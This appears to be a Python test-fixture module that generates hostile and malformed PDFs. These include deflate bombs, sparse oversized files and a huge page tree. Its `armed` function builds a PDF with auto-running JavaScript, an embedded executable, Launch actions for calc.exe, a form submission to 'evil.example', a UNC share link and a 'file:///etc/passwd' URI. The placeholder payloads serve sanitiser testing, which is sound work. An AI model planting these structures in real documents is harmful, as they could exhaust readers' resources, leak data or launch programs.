"""Papers that mean harm, or were harmed, made by code."""

import zlib
from collections.abc import Callable
from io import BytesIO
from pathlib import Path
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf
from reportlab.pdfgen.canvas import Canvas

MIB = 1024 * 1024


def paper(pages: int = 3) -> bytes:
    """An ordinary paper with some text on each page."""
    out = BytesIO()
    canvas = Canvas(out, invariant=1)
    for number in range(1, pages + 1):
        canvas.drawString(72, 700, f"Page {number} of an ordinary paper")
        canvas.showPage()
    canvas.save()
    return out.getvalue()


def changed(change: Callable[[Pdf], None], **saving: Any) -> bytes:
    """An ordinary paper after `change`."""
    out = BytesIO()
    with pikepdf.open(BytesIO(paper())) as pdf:
        change(pdf)
        pdf.save(out, **saving)
    return out.getvalue()


def locked(user: str, owner: str) -> bytes:
    """An ordinary paper under passwords."""
    return changed(lambda pdf: None, encryption=pikepdf.Encryption(user=user, owner=owner, R=6))


def zeros(size: int) -> bytes:
    """`size` zero bytes (whole mebibytes), deflated."""
    packer = zlib.compressobj(1)
    parts = [packer.compress(bytes(MIB)) for _ in range(size // MIB)]
    return b"".join([*parts, packer.flush()])


def packed_again(data: bytes, times: int) -> bytes:
    """`data` deflated `times` times more."""
    for _ in range(times):
        data = zlib.compress(data, 1)
    return data


def with_content(data: bytes, filters: int = 1) -> bytes:
    """A page that draws `data`, said to be deflated `filters` times."""
    head = b"<< /Length %d /Filter [%b] >>" % (len(data), b"/FlateDecode " * filters)
    stream = head + b"\nstream\n" + data + b"\nendstream"
    return one_page(b"/MediaBox [0 0 595 842] /Contents 4 0 R", stream)


def written(objects: list[bytes], root: int = 1) -> bytes:
    """A PDF of hand-written objects, numbered from 1."""
    out = BytesIO()
    out.write(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n%b\nendobj\n" % (number, body))
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % place for place in places))
    out.write(b"trailer\n<< /Size %d /Root %d 0 R >>\n" % (len(places) + 1, root))
    out.write(b"startxref\n%d\n%%%%EOF\n" % start)
    return out.getvalue()


def with_page_tree(tree: bytes, *others: bytes) -> bytes:
    """A PDF whose page tree is `tree` (object 2), `others` being objects 3 and on."""
    return written([b"<< /Type /Catalog /Pages 2 0 R >>", tree, *others])


def many_pages(count: int) -> bytes:
    """A flat page tree of `count` blank pages."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
    kids = b" ".join(b"%d 0 R" % number for number in range(3, count + 3))
    tree = b"<< /Type /Pages /Count %d /Kids [%b] >>" % (count, kids)
    return with_page_tree(tree, *([page] * count))


def one_page(page: bytes, *others: bytes) -> bytes:
    """One page with the entries `page`; `others` are objects 4 and on."""
    return with_page_tree(
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R %b >>" % page,
        *others,
    )


def sparse(path: Path, size: int) -> Path:
    """A file that says it is a PDF and has `size` bytes, hardly any of them on the disk."""
    with path.open("wb") as file:
        file.write(b"%PDF-1.7\n")
        file.truncate(size)
    return path


def armed(pdf: Pdf) -> None:
    """Everything a paper can do or carry besides its pages, all at once."""
    script = Dictionary(S=Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    file = pdf.make_stream(b"MZ a program")
    spec = Dictionary(Type=Name.Filespec, F=pikepdf.String("x.exe"), EF=Dictionary(F=file))
    indirect = pdf.make_indirect(spec)
    root = pdf.Root
    root.OpenAction = Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b"app.alert(2)"))
    root.AA = Dictionary(WC=script)
    root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([pikepdf.String("a"), script])),
        EmbeddedFiles=Dictionary(Names=Array([pikepdf.String("x.exe"), indirect])),
    )
    root.Collection = Dictionary(Type=Name.Collection)
    root.AF = Array([indirect])
    root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp/>"))
    page = pdf.pages[0].obj
    page.AA = Dictionary(O=script)
    box = Array([0, 0, 50, 50])
    next_script = Dictionary(S=Name.GoTo, D=Array([page, Name.Fit]), Next=script)

    def note(subtype: Name, **entries: Any) -> pikepdf.Object:
        made = Dictionary(Type=Name.Annot, Subtype=subtype, Rect=box, **entries)
        return pdf.make_indirect(made)

    def link(action: Dictionary) -> pikepdf.Object:
        return note(Name.Link, A=action)

    page.Annots = Array(
        [
            note(Name.FileAttachment, FS=indirect),
            note(Name.RichMedia, RichMediaContent=Dictionary()),
            note(Name.Screen, A=Dictionary(S=Name.Rendition, OP=0)),
            note(Name.Movie),
            note(Name.Sound),
            link(script),
            link(Dictionary(S=Name.Launch, F=pikepdf.String("calc.exe"))),
            link(Dictionary(S=Name.SubmitForm, F=pikepdf.String("https://evil.example/"))),
            link(Dictionary(S=Name.ImportData, F=pikepdf.String("x.fdf"))),
            link(Dictionary(S=Name.GoToR, F=pikepdf.String("\\\\evil\\share"), D=0)),
            link(Dictionary(S=Name.GoToE, D=0)),
            link(Dictionary(S=Name.URI, URI=pikepdf.String("javascript:alert(1)"))),
            link(Dictionary(S=Name.URI, URI=pikepdf.String("file:///etc/passwd"))),
            link(Dictionary(S=Name.Named, N=Name.Print)),
            link(next_script),
            link(Dictionary(S=Name.URI, URI=pikepdf.String("https://chinhphu.vn/"))),
            link(Dictionary(S=Name.Named, N=Name.NextPage)),
        ]
    )
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("one", 0))
        outline.root.append(pikepdf.OutlineItem("two", 1))
    root.Outlines.First.A = Dictionary(S=Name.Launch, F=pikepdf.String("calc.exe"))
